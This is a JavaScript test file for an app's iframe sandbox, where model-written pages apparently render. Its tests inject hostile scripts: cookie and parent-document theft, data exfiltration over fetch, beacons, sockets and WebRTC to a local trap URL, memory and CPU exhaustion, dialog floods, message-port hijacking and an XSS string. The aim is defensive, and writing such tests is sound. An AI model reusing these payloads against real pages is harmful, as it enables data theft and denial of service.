// SPDX-License-Identifier: Apache-2.0
// hostile.test.mjs - artifacts that want out: each tries, and must not get further than its frame.
//
// A second server listens beside the page's own and writes down what reaches it, over TCP or UDP.
// Chromium opens a connection for a navigation before it asks the policy, and then sends nothing
// over it; so what counts is what is sent (docs/page.md).
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { test } from "node:test";
import { answered, ask, shownFrame, sleep, until, withPage } from "./browser.mjs";

async function withTrap(use) {
  const caught = [];
  const server = createServer((socket) => {
    socket.on("data", (data) => caught.push(String(data).slice(0, 60)));
    socket.on("error", () => {});
  });
  const packets = createSocket("udp4");
  packets.on("message", () => caught.push("packet"));
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  await new Promise((resolve) => packets.bind(0, "127.0.0.1", resolve));
  try {
    await use({ tcp: server.address().port, udp: packets.address().port, caught });
  } finally {
    server.close();
    packets.close();
  }
}

async function run(page, body) {
  await ask(page, `page ${body}`);
  await answered(page);
}

const consoleText = async (page) => {
  const toggle = page.locator('.console-toggle[aria-expanded="false"]');
  if (await toggle.count()) await toggle.click();
  return page.locator(".console-lines").innerText();
};

test("nothing of the page can be reached", () =>
  withPage({}, async (page) => {
    await run(
      page,
      `<script>
for (const [name, steal] of Object.entries({
  parent: () => parent.document.title, top: () => top.location.href, opener: () => opener.name,
  cookie: () => document.cookie, frame: () => frameElement.id,
  database: () => indexedDB.open("enxame"),
  sibling: () => [0, 1].map((i) => parent.frames[i]).find((f) => f !== self).document.title,
  worker: () => navigator.serviceWorker.register("/x"),
})) {
  try { console.log(name + " gave " + steal()); } catch (e) { console.log(name + " refused"); }
}
console.log("origin " + origin);
</script>`,
    );
    await until(async () => (await page.locator(".console-toggle").count()) > 0, "a console");
    await sleep(300);
    const text = await consoleText(page);
    for (const name of ["parent", "top", "cookie", "sibling"])
      assert.match(text, new RegExp(`${name} refused`));
    assert.doesNotMatch(text, /(parent|top|cookie|sibling) gave/);
    assert.match(text, /origin null/);
  }));

test("nothing gets out: requests, pictures, styles, frames, beacons, sockets, links", () =>
  withTrap(({ tcp, udp, caught }) =>
    withPage({}, async (page) => {
      const url = `http://127.0.0.1:${tcp}/stolen`;
      await run(
        page,
        `<link rel="stylesheet" href="${url}"><link rel="preload" as="image" href="${url}">
<link rel="prefetch" href="${url}"><img src="${url}"><iframe src="${url}"></iframe>
<video src="${url}"></video><object data="${url}"></object>
<style>@import url(${url}); body { background: url(${url}) }</style>
<form id="f" action="${url}" method="post"><input name="a"></form>
<a id="a" href="${url}" ping="${url}">x</a>
<meta http-equiv="refresh" content="1; url=${url}">
<script src="${url}"></script><script type="module">import "${url}"</script>
<script>
const inner = () => document.body.appendChild(document.createElement("iframe"));
const call = (Peer = RTCPeerConnection) => {
  const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
const tries = [
  () => fetch("${url}"), () => navigator.sendBeacon("${url}", "x"),
  () => new WebSocket("ws://127.0.0.1:${tcp}/"),
  () => new EventSource("${url}"), () => new Worker("${url}"),
  () => f.submit(), () => f.requestSubmit(),
  () => a.click(), () => open("${url}"), () => { top.location = "${url}" },
  () => { parent.location = "${url}" },
  () => { new Image().src = "${url}" }, () => new XMLHttpRequest().open("GET", "${url}"),
  () => { const x = new XMLHttpRequest(); x.open("GET", "${url}"); x.send(); },
  () => inner().contentWindow.fetch("${url}"),
  () => { inner().srcdoc = '<img src="${url}">'; },
  () => new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"]))),
  () => { inner().srcdoc = "<script>(" + call + ")()<" + "/script>"; },
  () => call(inner().contentWindow.RTCPeerConnection),
  () => call(),
];
for (const go of tries) try { go()?.catch?.(() => {}); } catch {}
setTimeout(() => { location.href = "${url}"; }, 1500);
</script>`,
      );
      await sleep(4500);
      assert.deepEqual(caught, [], "bytes that were sent");
      assert.match(page.url(), /127\.0\.0\.1:\d+\/#\/c\//);
      assert.equal(page.context().pages().length, 1, "no window was opened");
      await ask(page, "still there?");
      await answered(page);
    }),
  ));

test("a page that never stops computing is removed, and the rest lives on", () =>
  withPage({}, async (page) => {
    await ask(page, "page <p>Fine</p><script>setTimeout(() => { for (;;); }, 300)</script>");
    await answered(page);
    await page.waitForSelector(".frame-note", { timeout: 20000 });
    assert.match(await page.locator(".frame-note").innerText(), /stopped answering/);
    assert.equal(await page.locator(".frames iframe").count(), 0);
    const before = Date.now();
    await ask(page, "hello");
    await answered(page);
    console.log(`# the next answer took ${Date.now() - before} ms`);
  }));

test("a flood of dialogs, lines and messages stays a few lines", () =>
  withPage({}, async (page) => {
    let dialogs = 0;
    page.on("dialog", (dialog) => (dialogs++, dialog.dismiss()));
    await run(
      page,
      `<script>
for (let i = 0; i < 20000; i++) { alert("x" + i); console.error("y".repeat(10000)); }
for (let i = 0; i < 20000; i++) {
  parent.postMessage({ type: "log", level: "error", text: "forged" }, "*");
}
print(); confirm("?"); prompt("?");
</script>`,
    );
    await page.waitForSelector(".console");
    await sleep(1500);
    assert.equal(dialogs, 0);
    const text = await consoleText(page);
    assert.doesNotMatch(text, /forged/);
    assert.ok((await page.locator(".console-lines li").count()) <= 200);
    assert.ok(text.length < 450000);
    await ask(page, "hello");
    await answered(page);
  }));

test("no listener of the page takes a window's message, and the port cannot be had", () =>
  withPage({}, async (page) => {
    await run(
      page,
      `<script>
const seen = [];
MessagePort.prototype.postMessage = function () { seen.push("port"); };
Object.defineProperty(MessagePort.prototype, "onmessage", { set() { seen.push("setter"); } });
addEventListener("message", (e) => e.ports.length && seen.push("handshake"), true);
console.log("a line");
setTimeout(() => console.log("seen: " + seen.join()), 1500);
</script>`,
    );
    await until(async () => (await page.locator(".console-toggle").count()) > 0, "a console");
    await sleep(2500);
    assert.match(await consoleText(page), /seen: *$/m);
  }));

test("markup in names and lines is text", () =>
  withPage({}, async (page) => {
    await ask(
      page,
      `page <title></title><script>console.error('<img src=x onerror="alert(1)">')</script>`,
    );
    await page.waitForSelector(".console.has-errors");
    assert.match(await page.locator(".console-first").innerText(), /<img src=x/);
    assert.equal(await page.locator(".console img").count(), 0);
  }));

test("a page that eats memory takes its own frame down at most", () =>
  withPage({}, async (page) => {
    await ask(
      page,
      `page <p>Fine</p><script>const a = [];
const eat = () => { try { a.push(new Uint8Array(2 ** 31)); } catch {} };
setInterval(eat, 1);</script>`,
    );
    await answered(page);
    await sleep(1500);
    await ask(page, "hello");
    await answered(page);
    assert.match(await page.locator(".message.is-model").last().innerText(), /hello/);
  }));

test("writing over its own document does not silence a page's signs of life", () =>
  withPage({}, async (page) => {
    await run(
      page,
      `<script>setTimeout(() => { document.open(); document.write("<p id=w>again</p>");
document.close(); nothing(); }, 300)</script>`,
    );
    await shownFrame(page).locator("#w").waitFor();
    await sleep(5500);
    assert.equal(await page.locator(".frame-note").count(), 0);
    assert.match(await consoleText(page), /nothing is not defined/);
  }));
